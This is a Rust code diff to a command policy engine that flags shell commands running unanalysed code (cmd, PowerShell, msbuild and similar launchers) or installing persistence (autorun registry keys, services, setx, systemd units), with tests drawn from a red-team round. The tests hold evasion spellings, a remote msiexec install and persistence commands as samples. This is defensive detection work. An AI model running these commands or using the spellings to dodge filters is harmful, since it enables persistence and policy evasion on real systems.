@@ -14,8 +14,10 @@
 //! Windows programs take options with `/` or `-` in any case; names come in
 //! lower case without `.exe` ([`super::wrappers::command_name`]).
 
-/// Why `name args…` runs code the engine cannot read, or `None`.
-pub fn unread_code(name: &str, args: &[&str]) -> Option<String> {
+/// Why `name args…` runs code the engine cannot read, or `None`. `reads_stdin`:
+/// the command's standard input is a pipe, a file or a here-document, which a
+/// shell runs as commands.
+pub fn unread_code(name: &str, args: &[&str], reads_stdin: bool) -> Option<String> {
     let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
     let option = |o: &str| lower.iter().any(|a| is_option(a, o));
     match name {
@@ -28,17 +30,26 @@ pub fn unread_code(name: &str, args: &[&str]) -> Option<String> {
         "rundll32" => Some(
             "`rundll32` runs a function of a DLL (or inline script), which the policy engine cannot read".into(),
         ),
-        "cmd" if ["c", "k", "r"].iter().any(|o| option(o)) => Some(
+        "cmd" if cmd_runs_a_command(&lower) || reads_stdin => Some(
             "`cmd` runs a command line in cmd.exe's language, which the policy engine does not analyse".into(),
         ),
+        "pcalua" | "conhost" | "msbuild" | "installutil" | "regasm" | "regsvcs" | "odbcconf"
+        | "cmstp" | "hh" | "msxsl" | "presentationhost" | "ieexec" | "infdefaultinstall"
+        | "mavinject" | "syncappvpublishingserver" | "start"
+            if !args.is_empty() =>
+        {
+            Some(format!(
+                "`{name}` starts a program, or runs code from a project, DLL, INF or help file, which the policy engine cannot read"
+            ))
+        }
         "forfiles" if option("c") => Some(
             "`forfiles /c` runs a command line in cmd.exe's language for each file, which the policy engine does not analyse".into(),
         ),
         "wmic" if lower.iter().any(|a| a == "call") && lower.iter().any(|a| a == "create") => {
             Some("`wmic … call create` starts a program the policy engine cannot read".into())
         }
-        "powershell" | "pwsh" if powershell_runs_a_string(name, &lower) => Some(format!(
-            "`{name}` runs a command string in PowerShell's language, which is not analysed from a bash line"
+        "powershell" | "pwsh" if powershell_runs_a_string(name, &lower, reads_stdin) => Some(format!(
+            "`{name}` runs a command string (or its standard input) in PowerShell's language, which is not analysed from a bash line"
         )),
         "wsl" if wsl_runs_a_command(&lower) => Some(
             "`wsl` runs a command inside a Linux distribution, which the policy engine does not analyse".into(),
@@ -69,8 +80,12 @@ pub fn autostart(name: &str, args: &[&str]) -> Option<String> {
             "`schtasks` creates or changes a scheduled task"
         }
         "at" if !args.is_empty() && !option("l") => "`at` schedules a command",
-        "sc" if matches!(operand(0).map(String::as_str), Some("create" | "config"))
-            || matches!(operand(1).map(String::as_str), Some("create" | "config")) =>
+        "sc" if [0, 1].iter().any(|&k| {
+            matches!(
+                operand(k).map(String::as_str),
+                Some("create" | "config" | "failure")
+            )
+        }) =>
         {
             "`sc` creates or reconfigures a service"
         }
@@ -88,6 +103,14 @@ pub fn autostart(name: &str, args: &[&str]) -> Option<String> {
         "crontab" if !lower.iter().any(|a| a == "-l" || a == "-r") => {
             "`crontab` installs a cron table"
         }
+        "setx" if !args.is_empty() => {
+            "`setx` sets a variable in every later session's environment (`COMSPEC`, `PATH`, …)"
+        }
+        "regedit" | "regini" if !args.is_empty() => {
+            "`regedit` loads registry settings from a file, which the policy engine does not read"
+        }
+        "systemctl" if systemctl_installs_a_unit(&lower) => "`systemctl` enables or links a unit",
+        "systemd-run" => "`systemd-run` starts a command as a unit (on a timer, as a service)",
         "launchctl"
             if matches!(
                 operand(0).map(String::as_str),
@@ -116,24 +139,48 @@ fn is_remote(a: &str) -> bool {
         || a.starts_with("//")
 }
 
+/// Whether cmd.exe is given a command: `/c`, `/k`, `/r` in any spelling it
+/// reads (`/C`, `/ccalc` glued, `/q/c` chained, Git Bash's `//c`), or an operand.
+/// Only `/?` and switches such as `/q /d /u` run nothing.
+fn cmd_runs_a_command(lower: &[String]) -> bool {
+    lower.iter().any(|a| {
+        a.strip_prefix('/').is_none_or(|rest| {
+            rest.split('/')
+                .any(|switch| switch.starts_with(['c', 'k', 'r']))
+        })
+    })
+}
+
 /// PowerShell accepts any unambiguous prefix of a parameter (`-c`, `-com`,
-/// `-Command`, `-e`, `-enc`, `-EncodedCommand`), and `powershell.exe` reads a bare
-/// first operand as `-Command`; `pwsh` reads it as `-File`.
-fn powershell_runs_a_string(name: &str, lower: &[String]) -> bool {
+/// `-Command`, `-e`, `-enc`, `-EncodedCommand`, `-cwa`), introduced by `-`, `--`,
+/// `/` or a Unicode dash (`–Command`), and `powershell.exe` reads a bare first
+/// operand as `-Command`; `pwsh` reads it as `-File`. `-File -` and no command at
+/// all read commands from standard input.
+fn powershell_runs_a_string(name: &str, lower: &[String], reads_stdin: bool) -> bool {
     let mut i = 0;
     while i < lower.len() {
         let a = lower[i].as_str();
-        let Some(p) = a.strip_prefix(['-', '/']) else {
+        let Some(p) = a
+            .strip_prefix("--")
+            .or_else(|| a.strip_prefix(['-', '/', '\u{2013}', '\u{2014}', '\u{2015}']))
+        else {
             // The first operand: a command (powershell) or a script file (pwsh).
             return name == "powershell" && !a.ends_with(".ps1");
         };
         if p.is_empty() {
             return true; // `-`: commands from standard input
         }
-        if "command".starts_with(p) || "encodedcommand".starts_with(p) || p == "ec" {
+        if "command".starts_with(p)
+            || "encodedcommand".starts_with(p)
+            || "commandwithargs".starts_with(p)
+            || matches!(p, "ec" | "cwa")
+        {
             return true;
         }
         if "file".starts_with(p) {
+            return lower.get(i + 1).is_none_or(|f| f == "-");
+        }
+        if matches!(p, "?" | "help" | "h" | "version" | "v") {
             return false;
         }
         // Parameters that take a value.
@@ -156,7 +203,27 @@ fn powershell_runs_a_string(name: &str, lower: &[String]) -> bool {
         .any(|v| (v.starts_with(p) && p.len() >= 2) || *v == p);
         i += if takes_value { 2 } else { 1 };
     }
-    false
+    reads_stdin
+}
+
+/// `systemctl [--user] enable|link|reenable|preset|edit|set-property …`: a unit
+/// that starts later, or a unit file written from elsewhere.
+fn systemctl_installs_a_unit(lower: &[String]) -> bool {
+    lower.iter().any(|a| {
+        matches!(
+            a.as_str(),
+            "enable"
+                | "link"
+                | "reenable"
+                | "preset"
+                | "preset-all"
+                | "edit"
+                | "set-property"
+                | "add-wants"
+                | "add-requires"
+                | "revert"
+        )
+    })
 }
 
 /// `wsl CMD`, `wsl -e CMD`, `wsl --exec CMD`, `wsl -- CMD`, `wsl -d X CMD`: a
@@ -191,6 +258,24 @@ fn is_autorun_key(arg: &str) -> bool {
         "imagefileexecutionoptions",
         "silentprocessexit",
         "currentcontrolsetservices",
+        "controlset001services",
+        "controlset002services",
+        "commandprocessor",
+        "shellopencommand",
+        "shellrunascommand",
+        "shellex",
+        "userinitmprlogonscript",
+        "policiessystemscripts",
+        "grouppolicyscripts",
+        "terminalserverinstall",
+        "windowsload",
+        "lsaauthenticationpackages",
+        "lsasecuritypackages",
+        "lsanotificationpackages",
+        "printmonitors",
+        "netshhelpers",
+        "explorershellexecutehooks",
+        "appcertdlls",
         "inprocserver32",
         "localserver32",
         "shellfolders",
@@ -232,8 +317,24 @@ mod tests {
             ("msiexec", "/i https://x.io/a.msi /qn"),
             ("msiexec", "/package=\\\\evil\\share\\a.msi"),
             ("bitsadmin", "/SetNotifyCmdLine job calc.exe NULL"),
+            // The fourth red-team round: cmd's other spellings, PowerShell's.
+            ("cmd", "//c calc"),
+            ("cmd", "/ccalc"),
+            ("cmd", "/q/c calc"),
+            ("cmd", "/Q /K calc"),
+            ("pwsh", "--command calc"),
+            ("pwsh", "-CommandWithArgs calc"),
+            ("pwsh", "-cwa calc"),
+            ("pwsh", "\u{2013}Command calc"),
+            ("pwsh", "-File -"),
+            ("pcalua", "-a calc.exe"),
+            ("msbuild", "evil.proj"),
+            ("conhost", "--headless calc.exe"),
         ] {
-            assert!(unread_code(name, &words(args)).is_some(), "{name} {args}");
+            assert!(
+                unread_code(name, &words(args), false).is_some(),
+                "{name} {args}"
+            );
         }
         for (name, args) in [
             ("cmd", ""),
@@ -248,8 +349,18 @@ mod tests {
             ("wmic", "process list brief"),
             ("git", "status"),
         ] {
-            assert!(unread_code(name, &words(args)).is_none(), "{name} {args}");
+            assert!(
+                unread_code(name, &words(args), false).is_none(),
+                "{name} {args}"
+            );
         }
+        // Standard input from a pipe or a file is a script.
+        for name in ["cmd", "pwsh", "powershell"] {
+            assert!(unread_code(name, &[], true).is_some(), "{name}");
+            assert!(unread_code(name, &[], false).is_none(), "{name}");
+        }
+        assert!(unread_code("cmd", &["/?"], true).is_some());
+        assert!(unread_code("cmd", &["/?"], false).is_none());
     }
 
     #[test]
@@ -279,6 +390,24 @@ mod tests {
             ("crontab", "-e"),
             ("launchctl", "load ~/Library/LaunchAgents/x.plist"),
             ("launchctl", "bootstrap gui/501 x.plist"),
+            (
+                "reg",
+                "add \"HKCU\\Software\\Microsoft\\Command Processor\" /v AutoRun /d calc",
+            ),
+            (
+                "reg",
+                "add HKLMSYSTEMControlSet001Servicesx /v ImagePath /d calc",
+            ),
+            (
+                "reg",
+                "add HKCU\\Software\\Classes\\txtfile\\shell\\open\\command /ve /d calc",
+            ),
+            ("setx", "COMSPEC calc.exe"),
+            ("regedit", "/s evil.reg"),
+            ("sc", "failure svc command= calc.exe"),
+            ("systemctl", "--user enable evil.service"),
+            ("systemctl", "--user link /tmp/evil.service"),
+            ("systemd-run", "--user --on-calendar=hourly /tmp/evil"),
         ] {
             assert!(autostart(name, &words(args)).is_some(), "{name} {args}");
         }
@@ -294,6 +423,8 @@ mod tests {
             ("crontab", "-l"),
             ("crontab", "-u dev -l"),
             ("launchctl", "list"),
+            ("systemctl", "--user status evil.service"),
+            ("systemctl", "restart nginx"),
         ] {
             assert!(autostart(name, &words(args)).is_none(), "{name} {args}");
         }
